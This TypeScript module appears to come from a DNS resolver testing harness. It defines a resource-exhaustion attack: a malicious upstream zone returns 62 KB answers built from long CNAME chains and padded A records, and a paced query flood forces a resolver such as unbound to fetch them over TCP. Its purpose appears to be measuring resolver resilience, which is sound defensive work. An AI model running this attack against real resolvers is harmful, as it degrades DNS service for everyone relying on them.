import type { Attack, Setting } from "../frame/attack.ts";
import { EVIL_ZONES } from "../frame/places.ts";
import {
  address,
  pointer,
  query,
  questionOf,
  record,
  reply,
  soa,
  truncated,
  TYPE,
  u32,
  wireName,
} from "../frame/wire.ts";

const ALIASES = 8;
/** Below the largest message by what a resolver adds. */
const BYTES = 62_500;
const TTL = 3600;
const HEADER = 12;
/** Octets of an address record with a compressed owner. */
const ADDRESS_RECORD = 16;
const TAIL = `${Array.from({ length: 110 }, () => "a").join(".")}.${EVIL_ZONES.udp}`;
const CHAIN = Array.from({ length: ALIASES }, (_, i) => `${String.fromCharCode(98 + i)}.${TAIL}`);

/** Eight aliases with names of 120 labels, and as many addresses at the end as fit: all of it valid. */
export function longAnswer(message: Uint8Array): Uint8Array {
  const { name, end } = questionOf(message);
  const place = CHAIN.indexOf(name);
  const names = place === -1 ? CHAIN : CHAIN.slice(place + 1);
  const answers: Uint8Array[] = [];
  let size = end;
  let owner = HEADER;
  for (const target of names) {
    const alias = record(pointer(owner), TYPE.CNAME, TTL, wireName(target));
    owner = size + HEADER;
    size += alias.length;
    answers.push(alias);
  }
  for (; size + ADDRESS_RECORD < BYTES; size += ADDRESS_RECORD) {
    answers.push(record(pointer(owner), TYPE.A, TTL, u32(0x0a000000 + answers.length)));
  }
  return reply(message, { answers });
}

const SETTING: Setting = { unbound: true };

/** The attack at a rate of queries a second. */
export function scanCost(rate: number): Attack {
  return {
    name: `scan-cost-${rate}`,
    summary:
      `${rate} names a second of a zone whose answers, through an honest unbound, are 62 KB.`,
    setting: SETTING,
    upstream(message, transport) {
      const { type, name } = questionOf(message);
      if (name === `probe.${EVIL_ZONES.udp}`) {
        return reply(message, { answers: [address(TTL, u32(0x0a000001))] });
      }
      if (type !== TYPE.A) return reply(message, { authority: [soa(5)] });
      return transport === "udp" ? truncated(message) : longAnswer(message);
    },
    async attack({ udp, paced }) {
      const socket = udp();
      let answered = 0;
      const run = Math.floor(Math.random() * 2 ** 30);
      const asked = await paced(
        rate,
        (n) => socket.send(query(`r${n}-${run}.${EVIL_ZONES.udp}`)),
        () => answered += socket.drain().count,
      );
      return { asked, answered };
    },
    judge: ({ facts }) => Number(facts.answered) > 0 ? [] : ["none of the large answers came"],
  };
}
